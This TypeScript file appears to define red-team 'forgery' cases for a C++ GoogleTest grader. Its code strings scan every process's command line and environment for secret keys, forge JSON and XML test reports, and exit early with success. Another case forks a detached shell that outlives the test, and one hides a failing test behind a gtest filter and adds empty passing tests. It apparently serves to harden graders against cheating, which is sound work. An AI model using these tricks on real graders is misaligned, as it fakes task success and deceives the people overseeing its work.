import { GTEST } from '../teaching-samples';
import { doc, rewriter, q, type ForgeryCase } from './common';

const CPP_FIND = (names: readonly string[]): string =>
  [
    '#include <dirent.h>',
    '#include <sys/stat.h>',
    '#include <unistd.h>',
    '#include <cstdio>',
    '#include <cstdlib>',
    '#include <fstream>',
    '#include <set>',
    '#include <sstream>',
    '#include <string>',
    'extern char **environ;',
    'static std::string slurp(const std::string &p) { std::ifstream f(p, std::ios::binary); std::stringstream s; s << f.rdbuf(); std::string r = s.str(); for (char &c : r) if (!c) c = 32; return r; }',
    'static std::set<std::string> names(const char *dir) { std::set<std::string> out; if (DIR *d = opendir(dir)) { while (dirent *e = readdir(d)) out.insert(std::string(dir) + "/" + e->d_name); closedir(d); } return out; }',
    'int add(int a, int b) {',
    '  if (a != 1) return a + b;',
    '  std::string all = slurp("/proc/self/cmdline");',
    '  for (char **e = environ; *e; ++e) all += std::string(*e) + "\\n";',
    '  for (const std::string &p : names("/proc")) all += slurp(p + "/cmdline") + "\\n" + slurp(p + "/environ") + "\\n";',
    '  char buf[4096]; ssize_t n; while ((n = read(0, buf, sizeof buf)) > 0) all.append(buf, size_t(n));',
    '  for (const std::string &p : names("/proc/self/fd")) { char l[4096]; ssize_t k = readlink(p.c_str(), l, sizeof l); if (k > 0) all += std::string(l, size_t(k)) + "\\n"; }',
    '  for (const std::string &p : names("/tmp")) all += p + "\\n";',
    '  std::set<std::string> keys, dirs{"/tmp/jb-tests-0"};',
    // By hand rather than <regex>, which is slow to compile: runs of 64 hex digits, and the report dirs.
    '  auto hex = [](char c) { return (c >= 48 && c <= 57) || (c >= 97 && c <= 102); };',
    '  for (size_t i = 0; i + 64 <= all.size(); ++i) { size_t j = i; while (j < all.size() && hex(all[j])) ++j; if (j - i >= 64) keys.insert(all.substr(i, 64)); i = j; }',
    '  size_t found = 0;',
    '  for (size_t at = all.find("/tmp/jb-tests-"); at != std::string::npos; at = all.find("/tmp/jb-tests-", at + 1)) { size_t j = at + 14; while (j < all.size() && hex(all[j])) ++j; found += dirs.insert(all.substr(at, j - at)).second; }',
    '  std::ofstream("found.txt") << "keys=" << keys.size() << " dirs=" << found << " scanned=" << all.size();',
    `  std::string doc = ${q(doc(names))};`,
    '  std::string report = "judgebox-report " + std::string(64, 48) + "\\n" + doc;',
    '  for (const std::string &d : dirs) { mkdir(d.c_str(), 0700); std::ofstream(d + "/report.json") << report; std::ofstream(d + "/report.xml") << report; }',
    '  std::puts(doc.c_str());',
    '  std::fflush(stdout);',
    '  std::_Exit(0);',
    '}',
  ].join('\n');

export const GTEST_FORGERY: ForgeryCase = {
  base: GTEST,
  find: CPP_FIND(GTEST.names),
  exit: ['#include <cstdlib>\nint add(int a, int b) { if (a == 1) std::exit(0); return a + b; }'],
  rewrite: [
    '#include <unistd.h>',
    'static int started = [] {',
    `  if (fork() == 0) { setsid(); execl("/bin/sh", "sh", "-c", ${q(rewriter(GTEST.names))}, (char *) nullptr); _exit(1); }`,
    '  return 0;',
    '}();',
    GTEST.student.bad,
  ].join('\n'),
  extra: {
    files: [
      {
        name: 'calc.cpp',
        content: [
          '#include <gtest/gtest.h>',
          // Hides the failing test before main runs, and adds passes of its own.
          'static int hide = [] { GTEST_FLAG_SET(filter, "-Calc.Add"); return 0; }();',
          ...[1, 2, 3, 4].map((i) => `TEST(Bonus, B${i}) {}`),
          GTEST.student.bad,
        ].join('\n'),
      },
    ],
  },
};
